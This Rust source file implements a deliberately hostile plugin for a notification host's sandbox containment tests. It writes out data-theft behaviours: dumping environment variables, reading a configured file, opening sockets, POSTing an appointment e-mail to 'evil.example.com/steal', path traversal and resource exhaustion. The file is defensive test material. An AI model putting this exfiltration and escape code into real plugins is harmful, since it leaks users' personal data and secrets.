//! A channel plugin that misbehaves on purpose, for the host's containment
//! tests. Setting `behavior` picks what `render` does:
//!
//! | behavior             | render                                                     |
//! |----------------------|------------------------------------------------------------|
//! | `ok` (default)       | one POST to `{base_url}/hook` with the event id as body    |
//! | `loop`               | spins forever                                              |
//! | `hog`                | allocates 1 MiB chunks and keeps them until memory runs out |
//! | `trap`               | panics (so does `classify`)                                |
//! | `classify-trap`      | renders as `ok`; `classify` panics                         |
//! | `classify-by-status` | renders as `ok`; `classify` as below, by status only       |
//! | `poison`             | panics on the event whose id is setting `poison_event_id`, renders the others as `ok` |
//! | `stdout-flood`       | writes 8 MiB to stdout, then renders as `ok`               |
//! | `socket`             | connects to setting `target`; refused → rejection          |
//! | `read-file`          | reads setting `path`; refused → rejection                  |
//! | `read-env`           | reads the environment; empty → rejection                   |
//! | `foreign-host`       | POSTs the appointment e-mail to `evil.example.com`         |
//! | `set-auth`           | sets its own `Authorization` header                        |
//! | `reflect`            | renders as `ok`; `classify` copies the whole answer (status, headers, body) into its verdict (message id for 2xx, `retry` reason for 5xx, `permanent` reason otherwise) and prints it to stdout and stderr |
//! | `long-reason`        | renders as `ok`; `classify` answers `permanent` with a reason of setting `bytes` (12 MiB) bytes of `é` |
//! | `many-headers`       | one POST with setting `count` (24,600) distinct headers    |
//! | `huge-header-value`  | one POST with a header of setting `bytes` (1 MiB) bytes    |
//! | `many-requests`      | setting `count` (10,000) POSTs to `{base_url}/hook`        |
//! | `method`             | one request with method setting `method` (`TRACE`), or `X` × setting `bytes` |
//! | `big-body`           | one POST with a body of setting `bytes` (2 MiB) bytes      |
//! | `long-url`           | one POST to `{base_url}/hook?pad=` plus setting `bytes` (100,000) bytes |
//! | `path`               | one POST to `{base_url}` + setting `path` (`/hook/../admin`) |
//! | `counter`            | renders as `ok` with header `x-calls`: how many renders this instance has done (1 in a fresh instance; more when the host reuses instances); traps on setting `poison_event_id` |
//!
//! The last seven test the host's caps and allow-lists on outbound requests.
//! With setting `poison_event_id` they misbehave on that event only and
//! render the others as `ok`.
//!
//! `classify` answers `delivered` for 2xx and `permanent` for anything else
//! (a 401 too: the host's rule for 0.1.0 plugins turns that one into
//! `channel-down`); with `classify-by-status` it answers `retry` (no
//! `after`, whatever `Retry-After` says) for 429 and 5xx instead.
//!
//! The plugin is built for the frozen `notify:channel@0.1.0` contract
//! (`wit/0.1.0/`), so the suite proves that plugins built for an old
//! version keep loading and working next to current ones.
//!
//! A sandbox escape that works does not fail here: it renders a request
//! carrying what it got (`CONNECTED`, the file, the environment), and the test
//! that expected a refusal fails on it.

#![deny(unsafe_code)]

use std::hint::black_box;
use std::io::Write as _;

use bindings::notify::channel::types::{
    CallContext, Delivered, Disposition, Event, Header, HttpRequest, HttpResponse, PluginInfo,
    RetryLater, Setting,
};

// The generated glue moves values across the component boundary with raw
// pointers; `unsafe` is allowed here and nowhere else in the crate. Its
// lowering functions take one argument per flattened field, which is the
// canonical ABI's shape, not a design to lint.
#[allow(unsafe_code, clippy::too_many_arguments)]
mod bindings {
    // Deliberately the frozen 0.1.0 contract, not the current one.
    wit_bindgen::generate!({ world: "channel", path: "../../../wit/0.1.0" });

    use super::Hostile;
    export!(Hostile);
}

const BEHAVIORS: &[&str] = &[
    "ok",
    "loop",
    "hog",
    "trap",
    "classify-trap",
    "classify-by-status",
    "stdout-flood",
    "socket",
    "read-file",
    "read-env",
    "foreign-host",
    "set-auth",
    "poison",
    "many-headers",
    "huge-header-value",
    "many-requests",
    "method",
    "big-body",
    "long-url",
    "path",
    "reflect",
    "long-reason",
    "counter",
];

/// Renders this instance has done (`counter`): state that survives between
/// calls only when the host reuses the instance.
static RENDERS: std::sync::atomic::AtomicU32 = std::sync::atomic::AtomicU32::new(0);

/// The review's case: a reason far past a Kafka header's (and a stock
/// broker's 1 MiB record) limit.
const LONG_REASON_BYTES: usize = 12 * 1024 * 1024;

/// Nothing resolves under `.invalid` (RFC 2606): an unconfigured `ok` channel
/// cannot reach anyone.
const DEFAULT_BASE_URL: &str = "https://example.invalid";

/// Chosen to exceed any sane per-call output limit by a wide margin, in
/// writes the size of a typical pipe buffer.
const FLOOD_BYTES: usize = 8 * 1024 * 1024;
const FLOOD_WRITE_BYTES: usize = 64 * 1024;

const HOG_CHUNK_BYTES: usize = 1024 * 1024;

struct Hostile;

fn setting<'a>(settings: &'a [Setting], key: &str) -> Option<&'a str> {
    settings
        .iter()
        .rev()
        .find(|s| s.key == key)
        .map(|s| s.value.as_str())
}

fn post(url: String, headers: Vec<Header>, body: impl Into<Vec<u8>>) -> Vec<HttpRequest> {
    vec![HttpRequest {
        method: "POST".to_string(),
        url,
        headers,
        body: body.into(),
    }]
}

/// A number setting, or `default` when unset or not a number.
fn number(settings: &[Setting], key: &str, default: usize) -> usize {
    setting(settings, key)
        .and_then(|v| v.parse().ok())
        .unwrap_or(default)
}

/// The outbound misbehaviours: requests the host must cap or refuse.
fn outbound(behavior: &str, base: &str, settings: &[Setting]) -> Vec<HttpRequest> {
    let hook = format!("{base}/hook");
    let one = |method: String, url: String, headers: Vec<Header>, body: Vec<u8>| {
        vec![HttpRequest {
            method,
            url,
            headers,
            body,
        }]
    };
    let header = |name: String, value: String| Header { name, value };
    match behavior {
        "many-headers" => {
            let headers = (0..number(settings, "count", 24_600))
                .map(|i| header(format!("x-h-{i}"), "v".to_string()))
                .collect();
            post(hook, headers, "many headers")
        }
        "huge-header-value" => post(
            hook,
            vec![header(
                "x-big".to_string(),
                "a".repeat(number(settings, "bytes", 1 << 20)),
            )],
            "huge header",
        ),
        "many-requests" => (0..number(settings, "count", 10_000))
            .flat_map(|i| post(hook.clone(), Vec::new(), format!("request {i}")))
            .collect(),
        "method" => {
            let method = match (setting(settings, "method"), setting(settings, "bytes")) {
                (Some(m), _) => m.to_string(),
                (None, Some(_)) => "X".repeat(number(settings, "bytes", 0)),
                (None, None) => "TRACE".to_string(),
            };
            one(method, hook, Vec::new(), b"method".to_vec())
        }
        "big-body" => post(
            hook,
            Vec::new(),
            vec![b'b'; number(settings, "bytes", 2 << 20)],
        ),
        "long-url" => post(
            format!(
                "{hook}?pad={}",
                "a".repeat(number(settings, "bytes", 100_000))
            ),
            Vec::new(),
            "long url",
        ),
        "path" => post(
            format!(
                "{base}{}",
                setting(settings, "path").unwrap_or("/hook/../admin")
            ),
            Vec::new(),
            "path",
        ),
        _ => Vec::new(),
    }
}

impl bindings::Guest for Hostile {
    fn describe() -> PluginInfo {
        PluginInfo {
            name: "hostile".to_string(),
            version: env!("CARGO_PKG_VERSION").to_string(),
            required_fields: Vec::new(),
            known_settings: [
                "behavior",
                "base_url",
                "target",
                "path",
                "poison_event_id",
                "count",
                "bytes",
                "method",
            ]
            .map(String::from)
            .to_vec(),
        }
    }

    fn check_settings(settings: Vec<Setting>) -> Result<(), Vec<String>> {
        match setting(&settings, "behavior") {
            Some(b) if !BEHAVIORS.contains(&b) => Err(vec![format!(
                "setting `behavior` must be one of {}, not `{b}`",
                BEHAVIORS.join(", ")
            )]),
            _ => Ok(()),
        }
    }

    fn render(event: Event, settings: Vec<Setting>) -> Result<Vec<HttpRequest>, String> {
        let base = setting(&settings, "base_url")
            .unwrap_or(DEFAULT_BASE_URL)
            .trim_end_matches('/');
        let hook = format!("{base}/hook");
        match setting(&settings, "behavior").unwrap_or("ok") {
            "ok" | "classify-trap" | "classify-by-status" => {
                // A plugin's own output goes to the host log, under its name,
                // with personal data masked there.
                println!(
                    "hostile: rendering {} for {}",
                    event.event_id,
                    event.appointment.email.as_deref().unwrap_or("nobody")
                );
                Ok(post(hook, Vec::new(), event.event_id))
            }
            "loop" => {
                let mut spins = 0u64;
                loop {
                    spins = black_box(spins.wrapping_add(1));
                }
            }
            "hog" => {
                let mut kept: Vec<Vec<u8>> = Vec::new();
                loop {
                    let mut chunk = vec![0u8; HOG_CHUNK_BYTES];
                    // Touch every page so the memory is really committed.
                    chunk.iter_mut().step_by(4096).for_each(|b| *b = 1);
                    kept.push(black_box(chunk));
                }
            }
            "trap" => panic!("hostile plugin: deliberate trap"),
            // A poison pill: traps on one event (setting `poison_event_id`),
            // behaves on every other.
            "poison" if setting(&settings, "poison_event_id") == Some(event.event_id.as_str()) => {
                panic!("hostile plugin: poisoned by event {}", event.event_id)
            }
            "poison" => Ok(post(hook, Vec::new(), event.event_id)),
            "counter" => {
                let n = RENDERS.fetch_add(1, std::sync::atomic::Ordering::Relaxed) + 1;
                if setting(&settings, "poison_event_id") == Some(event.event_id.as_str()) {
                    panic!(
                        "hostile plugin: counter poisoned by event {}",
                        event.event_id
                    )
                }
                Ok(post(
                    hook,
                    vec![Header {
                        name: "x-calls".to_string(),
                        value: n.to_string(),
                    }],
                    event.event_id,
                ))
            }
            "stdout-flood" => {
                let chunk = vec![b'x'; FLOOD_WRITE_BYTES];
                let mut out = std::io::stdout().lock();
                for _ in 0..FLOOD_BYTES / FLOOD_WRITE_BYTES {
                    // Keep writing even if the host refuses some: the point
                    // is to try.
                    let _ = out.write_all(&chunk);
                }
                let _ = out.flush();
                Ok(post(hook, Vec::new(), event.event_id))
            }
            "socket" => {
                let target = setting(&settings, "target")
                    .ok_or("socket refused: setting `target` is missing")?;
                match std::net::TcpStream::connect(target) {
                    Ok(_) => Ok(post(hook, Vec::new(), "CONNECTED")),
                    Err(e) => Err(format!("socket refused: {e}")),
                }
            }
            "read-file" => {
                let path =
                    setting(&settings, "path").ok_or("file refused: setting `path` is missing")?;
                match std::fs::read_to_string(path) {
                    Ok(content) => Ok(post(hook, Vec::new(), content)),
                    Err(e) => Err(format!("file refused: {e}")),
                }
            }
            "read-env" => {
                let vars: Vec<(String, String)> = std::env::vars().collect();
                if vars.is_empty() {
                    return Err("environment is empty".to_string());
                }
                let listing: String = vars.iter().map(|(k, v)| format!("{k}={v}\n")).collect();
                Ok(post(hook, Vec::new(), listing))
            }
            "foreign-host" => Ok(post(
                "https://evil.example.com/steal".to_string(),
                Vec::new(),
                event.appointment.email.unwrap_or_default(),
            )),
            "set-auth" => Ok(post(
                hook,
                vec![Header {
                    name: "Authorization".to_string(),
                    value: "Basic Zm9vOmJhcg==".to_string(),
                }],
                event.event_id,
            )),
            b @ ("many-headers" | "huge-header-value" | "many-requests" | "method" | "big-body"
            | "long-url" | "path") => match setting(&settings, "poison_event_id") {
                Some(id) if id != event.event_id => Ok(post(hook, Vec::new(), event.event_id)),
                _ => Ok(outbound(b, base, &settings)),
            },
            // An echoing provider's answer, credentials and all, is what
            // this one hands back from classify.
            "reflect" => Ok(post(hook, Vec::new(), event.event_id)),
            "long-reason" => Ok(post(hook, Vec::new(), event.event_id)),
            other => Err(format!("unknown behavior `{other}`")),
        }
    }

    fn classify(
        response: HttpResponse,
        settings: Vec<Setting>,
        _context: CallContext,
    ) -> Disposition {
        let behavior = setting(&settings, "behavior");
        if matches!(behavior, Some("trap" | "classify-trap")) {
            panic!("hostile plugin: deliberate trap in classify");
        }
        if behavior == Some("reflect") {
            return reflect(&response);
        }
        if behavior == Some("long-reason") {
            // Two-byte characters, so a cut at an odd byte count must step
            // back to a character boundary.
            let bytes: usize = setting(&settings, "bytes")
                .and_then(|b| b.parse().ok())
                .unwrap_or(LONG_REASON_BYTES);
            return Disposition::Permanent("é".repeat(bytes / 2));
        }
        match response.status {
            200..=299 => Disposition::Delivered(Delivered {
                provider_message_id: None,
            }),
            status @ (429 | 500..=599) if behavior == Some("classify-by-status") => {
                Disposition::Retry(RetryLater {
                    after_ms: None,
                    reason: format!("hostile: HTTP {status}"),
                })
            }
            status => Disposition::Permanent(format!("hostile: HTTP {status}")),
        }
    }
}

/// The whole answer as one text, put everywhere a plugin's words go: the
/// verdict's reason or message id, stdout and stderr.
fn reflect(response: &HttpResponse) -> Disposition {
    let headers: Vec<String> = response
        .headers
        .iter()
        .map(|h| format!("{}: {}", h.name, h.value))
        .collect();
    let dump = format!(
        "reflected HTTP {} | {} | {}",
        response.status,
        headers.join(" | "),
        String::from_utf8_lossy(&response.body)
    );
    println!("{dump}");
    eprintln!("{dump}");
    match response.status {
        200..=299 => Disposition::Delivered(Delivered {
            provider_message_id: Some(dump),
        }),
        500..=599 => Disposition::Retry(RetryLater {
            after_ms: None,
            reason: dump,
        }),
        _ => Disposition::Permanent(dump),
    }
}
